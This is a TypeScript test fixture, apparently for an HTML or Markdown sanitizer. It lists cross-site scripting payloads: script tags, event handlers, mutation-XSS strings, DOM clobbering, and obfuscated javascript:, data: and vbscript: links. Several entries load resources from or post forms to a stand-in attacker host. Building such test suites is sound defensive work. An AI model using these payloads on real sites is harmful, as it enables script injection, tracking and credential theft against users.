/** What people write who want something of theirs to run in a page, or to be asked for by it. */

/** What any of it would do, if it ran. */
export const RUN = "globalThis.owned=(globalThis.owned??0)+1";

/** HTML that runs something in a browser that takes it for HTML, or loads something from elsewhere. */
export const HTML_ATTACKS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="http://attacker.invalid/pixel.png">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">click</text></a></svg>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.owned=1"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="http://attacker.invalid/x.swf">`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">link</a>`,
  `<details open ontoggle="${RUN}">`,
  `<video autoplay onloadstart="${RUN}"><source src=http://attacker.invalid/v.mp4></video>`,
  `<style>@import "http://attacker.invalid/x.css"; * { display: none }</style>`,
  `<link rel=stylesheet href=http://attacker.invalid/x.css><meta http-equiv=refresh content="0;url=http://attacker.invalid">`,
  `<form action="http://attacker.invalid"><button formaction="javascript:${RUN}">Sign in</button></form>`,
  `<base href="http://attacker.invalid/"><template><script>${RUN}</script></template>`,
  `<div style="position:fixed;inset:0;background:url(http://attacker.invalid/bg.png)">over everything</div>`,
  // What changes its meaning when it is parsed a second time.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]--> <!-- --!><script>${RUN}</script>`,
  `<input name=attributes><form id=page><input name=children></form>`,
];

/** Links that do something else than to lead to a page. */
export const LINK_ATTACKS: readonly string[] = [
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](java\nscript:${RUN})`,
  `[click](&#106;avascript:${RUN})`,
  `[click](javascript&colon;${RUN})`,
  `[click](\u0001javascript:${RUN})`,
  `[click]( javascript:${RUN} )`,
  `[click](<javascript:${RUN}>)`,
  `[click](data:text/html,<script>${RUN}</script>)`,
  `[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Im93bmVkPTEiLz4=)`,
  `[click](vbscript:${RUN})`,
  `[click](file:///etc/passwd)`,
  `[click](blob:null/1)`,
  `<javascript:${RUN}>`,
  `[click][1]\n\n[1]: javascript:${RUN}`,
  `[click](https://example.invalid "x" onmouseover="${RUN}")`,
  `![alt](http://attacker.invalid/pixel.png)`,
  `![" onerror="${RUN}](x)`,
  `[![nested](http://attacker.invalid/a.png)](javascript:${RUN})`,
  `[a](http://attacker.invalid/"onclick="${RUN})`,
];
